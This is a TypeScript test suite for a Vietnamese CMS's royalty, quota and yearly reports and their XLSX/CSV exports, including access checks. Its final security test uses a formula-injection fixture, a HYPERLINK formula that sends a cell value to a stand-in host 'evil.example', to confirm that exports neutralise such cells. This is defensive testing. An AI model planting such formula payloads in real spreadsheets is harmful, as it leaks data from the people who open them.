import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import type { Tally } from '../src/plugins/reports/shared/contracts';
import { monthOf } from '../src/plugins/reports/server/services/periods';
import { startCms, type TestCms } from './harness/cms';
import { articleData, createAndPublish, unique } from './harness/fixtures';
import { BUDGET, configureRoyalties } from './harness/royalties';
import { adminApi, ARTICLE, bringTo, createStaff, type AdminApi } from './harness/workflow';
import { buildWorld, peopleOf, type People, type World } from './harness/workflow-world';

const sumRows = (tally: Tally) => ({
  count: tally.rows.reduce((sum, row) => sum + row.count, 0),
  amount: tally.rows.reduce((sum, row) => sum + row.amount, 0),
});

/** Supertest leaves binary bodies alone only with a parser of our own. */
const binary = (res: unknown, done: (error: Error | null, body: unknown) => void) => {
  const stream = res as NodeJS.ReadableStream;
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  stream.on('end', () => done(null, Buffer.concat(chunks)));
};

/** The cached result of the total row's cell in the column headed `header`. */
const xlsxTotal = async (file: Buffer, sheetName: string, header: string): Promise<number> => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ArrayBuffer);
  const sheet = workbook.getWorksheet(sheetName);
  if (!sheet) throw new Error(`No sheet ${sheetName}`);
  let column = 0;
  let total: number | null = null;
  sheet.eachRow((row) => {
    const values = row.values as unknown[];
    const index = values.indexOf(header);
    if (index > 0 && column === 0) column = index;
    if (values[1] === 'Tổng cộng') {
      const cell = values[column] as { result?: number } | number;
      total = typeof cell === 'number' ? cell : (cell.result ?? null);
    }
  });
  if (total === null) throw new Error(`No total row in ${sheetName}`);
  return total;
};

describe('royalty reports, quotas and exports', () => {
  let cms: TestCms;
  let world: World;
  let people: People;
  let head: AdminApi;
  let site: string;
  let monthly: string;
  let quarterly: string;
  const month = monthOf(new Date());

  beforeAll(async () => {
    cms = await startCms();
    world = await buildWorld(cms);
    people = peopleOf(world);
    site = world.sites.A.site;
    await configureRoyalties(world.superAdmin, site);
    head = adminApi(cms, (await createStaff(cms, 'board-head@A', [{ site, role: 'board-head' }])).jwt);
    const unit = async (name: string, quota: Record<string, unknown>) =>
      (await world.api.post('/api/units', { name: `${name} ${unique()}`, kind: 'department', site, quota }).expect(201)).body.data
        .documentId as string;
    monthly = await unit('Phòng Văn hóa thử', { minItems: 3, maxItems: 5, period: 'month' });
    quarterly = await unit('Trung tâm thử', {
      minItems: 2,
      period: 'quarter',
      minByForm: [
        { form: 'tin', minItems: 1 },
        { form: 'bai', minItems: 1 },
      ],
    });
    const writer = (
      await world.api.post('/api/contributors', { fullName: 'Lê Thị Cúc', unit: monthly, email: `${unique()}@vungtau.test` }).expect(201)
    ).body.data.documentId as string;
    const piece = async (unitId: string, form: string, state: 'published' | 'submitted') => {
      const data = articleData(world.sites.A, { unit: unitId, form, authors: [{ contributor: writer, share: 100 }] });
      const id = (await people.author.create(ARTICLE, data).expect(201)).body.data.documentId as string;
      await bringTo(people, ARTICLE, id, state);
    };
    await piece(monthly, 'tin', 'published');
    await piece(monthly, 'tin', 'published');
    await piece(monthly, 'tin', 'submitted');
    await piece(quarterly, 'tin', 'published');
    await piece(quarterly, 'bai', 'published');
    const doc = {
      number: `${unique()}/QĐ-UBND`,
      kind: 'normative',
      type: 'quyet-dinh',
      issuer: 'UBND thành phố',
      issuedDate: '2026-11-02',
      summary: 'Trích yếu.',
      site,
    };
    expect((await createAndPublish(cms, world.api, 'legal-documents', doc)).status).toBe(200);
    await world.superAdmin.create(BUDGET, { site, year: Number(month.slice(0, 4)), amount: 1_000_000, warnAtPercent: 80 }).expect(201);
  });
  afterAll(async () => cms?.close());

  it('counts each unit\u2019s submitted, approved and published items against its monthly or quarterly quota', async () => {
    const res = await people.editor.get(`/reports/quotas?site=${site}`).expect(200);
    const units = res.body.data.units as Array<{ unit: { documentId: string }; periods: Array<Record<string, unknown>> }>;
    const current = (id: string) => units.find((row) => row.unit.documentId === id)!.periods[0];
    expect(current(monthly)).toMatchObject({
      period: month,
      current: true,
      own: { submitted: 3, approved: 2, published: 2 },
      city: { proposed: 0, published: 0 },
      state: 'behind',
      missing: 1,
    });
    expect(current(quarterly)).toMatchObject({ period: expect.stringMatching(/^\d{4}-Q[1-4]$/), own: { published: 2 }, state: 'met' });
    expect(units.find((row) => row.unit.documentId === monthly)!.periods).toHaveLength(4);
    // Behind now (so far) and in the last finished period, when nothing was posted at all.
    const behind = res.body.data.behind as Array<{ unit: string; current: boolean; missing: number }>;
    expect(behind.map((row) => [row.unit.split(' ')[0], row.current, row.missing])).toEqual([
      ['Phòng', true, 1],
      ['Phòng', false, 3],
      ['Trung', false, 2],
    ]);
  });

  it('makes a monthly report whose totals are the sums of their rows', async () => {
    const report = (await head.get(`/reports/monthly?site=${site}&month=${month}`).expect(200)).body.data;
    expect(report.articles.total).toBe(4);
    for (const table of ['byCategory', 'byForm', 'byUnit', 'bySite']) {
      expect(sumRows(report.articles[table])).toEqual(report.articles[table].total);
      expect(report.articles[table].total.count).toBe(4);
    }
    expect(report.documents.byKind.rows.map((r: { label: string; count: number }) => [r.label, r.count])).toEqual([
      ['Văn bản quy phạm pháp luật', 1],
      ['Văn bản hành chính', 0],
      ['Dự thảo lấy ý kiến', 0],
    ]);
    // Three tin at 1.5 × 234,000 đ and one bài at 3 × 234,000 đ.
    expect(report.royalties.total).toEqual({ count: 4, amount: 3 * 351_000 + 702_000 });
    expect(sumRows(report.royalties.byStatus)).toEqual(report.royalties.total);
    expect(report.topContributors[0]).toEqual({ name: 'Lê Thị Cúc', pieces: 4, amount: 1_755_000 });
  });

  it('makes a year-end report with items, documents, units, royalties and the budget warning', async () => {
    const report = (await head.get(`/reports/yearly?site=${site}&year=${month.slice(0, 4)}`).expect(200)).body.data;
    expect(report.articles.byMonth.rows).toHaveLength(12);
    expect(sumRows(report.articles.byMonth).count).toBe(report.articles.total);
    expect(sumRows(report.royalties.byMonth)).toEqual(report.royalties.total);
    expect(report.topUnits.rows[0]).toMatchObject({ label: expect.stringContaining('Phòng Văn hóa thử'), count: 2 });
    expect(report.documents.total).toBe(1);
    expect(report.budgets[0].status).toMatchObject({ amount: 1_000_000, level: 'exceeded', remaining: 1_000_000 - 1_755_000 });
    expect(report.budgetTotal).toMatchObject({ amount: 1_000_000, spent: 0, committed: 1_755_000 });
  });

  it('exports royalties to XLSX and CSV that parse back to the same totals, with Vietnamese headers', async () => {
    const statement = (await head.get(`/reports/royalties?site=${site}&month=${month}`).expect(200)).body.data;
    const xlsx = await head
      .get(`/reports/exports/royalties?format=xlsx&site=${site}&month=${month}`)
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(xlsx.headers['content-type']).toContain('spreadsheetml');
    expect(await xlsxTotal(xlsx.body as Buffer, 'Nhuận bút', 'Thành tiền (đồng)')).toBe(statement.total.amount);

    const csv = await head
      .get(`/reports/exports/royalty-contributors?format=csv&site=${site}&month=${month}`)
      .buffer(true)
      .parse(binary)
      .expect(200);
    const text = (csv.body as Buffer).toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parse(text, { bom: true }) as string[][];
    expect(rows[0]).toEqual(['Cộng tác viên', 'Số tin bài', 'Thành tiền (đồng)']);
    const body = rows.slice(1, -1);
    const last = rows[rows.length - 1];
    expect(last[0]).toBe('Tổng cộng');
    expect(Number(last[2])).toBe(statement.total.amount);
    expect(body.reduce((sum, row) => sum + Number(row[2]), 0)).toBe(statement.total.amount);
    expect(body).toContainEqual(['Lê Thị Cúc', '4', '1755000']);
  });

  it('exports the monthly report and the quota dashboard, and refuses what it cannot export', async () => {
    const report = (await head.get(`/reports/monthly?site=${site}&month=${month}`).expect(200)).body.data;
    const file = await head.get(`/reports/exports/monthly?format=xlsx&site=${site}&month=${month}`).buffer(true).parse(binary).expect(200);
    expect(await xlsxTotal(file.body as Buffer, 'Theo thể loại', 'Số tin bài')).toBe(report.articles.total);
    expect(await xlsxTotal(file.body as Buffer, 'Nhuận bút', 'Thành tiền (đồng)')).toBe(report.royalties.total.amount);
    const quotas = await people.editor.get(`/reports/exports/quotas?format=csv&site=${site}`).buffer(true).parse(binary).expect(200);
    expect((quotas.body as Buffer).toString('utf8')).toContain('Chưa đạt (kỳ đang thực hiện)');
    const refused = await head.get(`/reports/exports/monthly?format=csv&site=${site}`).expect(400);
    expect(refused.body.error.details.errors[0].path).toEqual(['format']);
    await head.get('/reports/exports/payroll?format=xlsx').expect(404);
  });

  it('shows reports to the board and finance of the site only', async () => {
    for (const who of ['contributor@A', 'site-admin@A', 'editor@B']) {
      await world.users[who].get(`/reports/monthly?site=${site}`).expect(403);
      await world.users[who].get(`/reports/exports/royalties?format=csv&site=${site}`).expect(403);
    }
    const me = (await world.users['editor@B'].get('/reports/me').expect(200)).body.data;
    expect(me.sites.map((s: { name: string }) => s.name)).toEqual([world.sites.B.name]);
    const none = (await world.users['contributor@A'].get('/reports/me').expect(200)).body.data;
    expect(none.sites).toEqual([]);
    await head.get(`/reports/monthly?site=${site}&month=2026-13`).expect(400);
  });

  // Last: the piece it publishes is not in the counts the tests above check.
  it('security: a title and a contributor name that start a formula are exported as quoted CSV text and as XLSX string cells', async () => {
    const title = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây") ${unique()}`;
    const name = `@SUM(1+1) ${unique()}`;
    const writer = (
      await world.api.post('/api/contributors', { fullName: name, unit: monthly, email: `${unique()}@vungtau.test` }).expect(201)
    ).body.data.documentId as string;
    const data = articleData(world.sites.A, { title, unit: monthly, form: 'tin', authors: [{ contributor: writer, share: 100 }] });
    await bringTo(people, ARTICLE, (await people.author.create(ARTICLE, data).expect(201)).body.data.documentId as string, 'published');

    const csv = await head.get(`/reports/exports/royalties?format=csv&site=${site}&month=${month}`).buffer(true).parse(binary).expect(200);
    const rows = parse((csv.body as Buffer).toString('utf8'), { bom: true }) as string[][];
    const [header] = rows;
    const row = rows.find((r) => r[header.indexOf('Tin bài')] === `'${title}`);
    expect(row?.[header.indexOf('Cộng tác viên')]).toBe(`'${name}`);
    expect(row?.[header.indexOf('Thành tiền (đồng)')]).toBe('351000');
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const xlsx = await head
      .get(`/reports/exports/royalties?format=xlsx&site=${site}&month=${month}`)
      .buffer(true)
      .parse(binary)
      .expect(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.getWorksheet('Nhuận bút')!.eachRow((r) => r.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((cell) => cell.value === title || cell.value === name).map((cell) => cell.type)).toEqual([
      ExcelJS.ValueType.String,
      ExcelJS.ValueType.String,
    ]);
  });
});
